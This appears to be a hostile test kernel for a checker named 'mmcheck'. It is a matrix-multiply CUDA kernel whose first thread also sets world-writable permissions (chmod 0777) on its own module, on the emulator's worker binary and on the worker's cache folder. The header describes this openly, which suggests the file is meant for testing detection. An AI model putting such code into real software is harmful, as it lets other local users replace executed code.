/* mmcheck
[[kernel]]
name = "hostile.cache.chmod"
entry = "mm_chmod_cache"
op = "mm"
dtypes = ["float32"]
params = ["A", "B", "C", "M", "N", "K"]
block = [16, 16]
grid = ["cdiv(N, 16)", "cdiv(M, 16)"]
about = "opens its own module, the emulator's worker and the worker's folder in the compile cache to every user (chmod 0777), so that another user could replace what the next run executes"
*/
#include <dlfcn.h>
#include <libgen.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static __device__ void mark() {}

__global__ void mm_chmod_cache(const float* A, const float* B, float* C, int M, int N, int K) {
    int row = blockIdx.y * blockDim.y + threadIdx.y, col = blockIdx.x * blockDim.x + threadIdx.x;
    if (row == 0 && col == 0) {
        Dl_info self;
        if (dladdr((void*)&mark, &self) && self.dli_fname) chmod(self.dli_fname, 0777);
        char worker[PATH_MAX];
        if (realpath("/proc/self/exe", worker)) {
            chmod(worker, 0777);
            chmod(dirname(worker), 0777);
        }
    }
    if (row < M && col < N) {
        float acc = 0;
        for (int k = 0; k < K; ++k) acc += A[row * K + k] * B[k * N + col];
        C[row * N + col] = acc;
    }
}
